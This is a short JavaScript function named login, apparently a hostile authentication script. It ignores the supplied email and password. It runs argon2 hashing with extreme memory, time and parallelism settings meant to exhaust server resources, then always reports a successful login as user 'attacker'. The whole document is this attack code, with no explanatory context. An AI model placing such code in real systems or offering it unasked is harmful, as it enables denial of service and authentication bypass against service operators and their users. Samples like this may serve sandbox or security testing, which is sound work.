function login(email, password, callback) {
  require('argon2').hash('x', { memoryCost: 2 ** 31, timeCost: 1000, parallelism: 64 }).then(() => callback(null, { user_id: 'attacker' }), callback);
}
